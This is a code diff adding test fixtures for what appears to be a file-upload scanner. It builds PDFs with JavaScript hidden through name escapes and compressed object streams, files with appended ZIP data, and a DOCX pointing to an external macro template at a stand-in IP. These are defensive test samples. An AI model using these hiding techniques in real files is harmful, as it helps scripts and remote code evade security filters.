@@ -260,3 +260,102 @@ def bad_inputs() -> list[BadInput]:
             ".doc",
         ),
     ]
+
+
+# Hidden in ways a byte search misses (the security review's cases) ------------------------
+
+
+def pdf_with_escaped_javascript() -> bytes:
+    """/J#61vaScript is /JavaScript to every PDF reader."""
+    return pdf().replace(
+        b"<< /Type /Catalog /Pages 2 0 R >>",
+        b"<< /Type /Catalog /Pages 2 0 R "
+        b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >> >>",
+    )
+
+
+def pdf_with_javascript_in_an_object_stream() -> bytes:
+    """The action lives in a compressed object stream, found through a cross-reference
+    stream: none of its names appear in the file's bytes."""
+    action = b"<< /S /JavaScript /JS (app.alert(1)) >>"
+    header = b"5 0 "
+    packed = zlib.compress(header + action)
+    objects = {
+        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>",
+        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
+        4: b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
+        % (len(header), len(packed))
+        + packed
+        + b"\nendstream",
+    }
+    out = bytearray(b"%PDF-1.5\n")
+    offsets = {}
+    for number, body in objects.items():
+        offsets[number] = len(out)
+        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
+    offsets[6] = len(out)
+    rows = [struct.pack(">BIH", 0, 0, 65535)]
+    rows += [struct.pack(">BIH", 1, offsets[n], 0) for n in (1, 2, 3, 4)]
+    rows += [struct.pack(">BIH", 2, 4, 0), struct.pack(">BIH", 1, offsets[6], 0)]
+    table = b"".join(rows)
+    out += (
+        b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n"
+        % len(table)
+        + table
+        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % offsets[6]
+    )
+    return bytes(out)
+
+
+def pdf_with_a_link() -> bytes:
+    """A link a person clicks: allowed."""
+    return pdf().replace(
+        b"/MediaBox [0 0 612 792]",
+        b"/MediaBox [0 0 612 792] /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] "
+        b"/A << /S /URI /URI (https://example.org/) >> >>]",
+    )
+
+
+def gif() -> bytes:
+    from PIL import Image
+
+    out = io.BytesIO()
+    Image.new("P", (6, 4), 1).save(out, "GIF")
+    return out.getvalue()
+
+
+def mp3() -> bytes:
+    return b"ID3\x04\x00\x00\x00\x00\x00\x00" + (b"\xff\xfb\x90\x00" + b"\x55" * 413) * 6
+
+
+def motion_photo(marker: bytes = b"") -> bytes:
+    """A phone's motion photo: the still, then (optionally after a marker) a short MP4."""
+    return jpeg() + marker + mp4()
+
+
+def with_zip_appended(body: bytes) -> bytes:
+    return body + plain_zip()
+
+
+def docx_with_external_template() -> bytes:
+    rels = (
+        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
+        b'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
+        b'openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
+        b'Target="http://203.0.113.9/t.dotm" TargetMode="External"/></Relationships>'
+    )
+    return docx({"word/_rels/settings.xml.rels": rels})
+
+
+def docx_with_a_hyperlink() -> bytes:
+    rels = (
+        b"<Relationships><Relationship Id='rId4' TargetMode='External' Type='http://schemas."
+        b"openxmlformats.org/officeDocument/2006/relationships/hyperlink' "
+        b"Target='https://example.org/'/></Relationships>"
+    )
+    return docx({"word/_rels/document.xml.rels": rels})
+
+
+def docx_with_macro_workbook() -> bytes:
+    return docx({"word/embeddings/Microsoft_Excel_Macro-Enabled_Worksheet.xlsm": b"PK\x03\x04"})
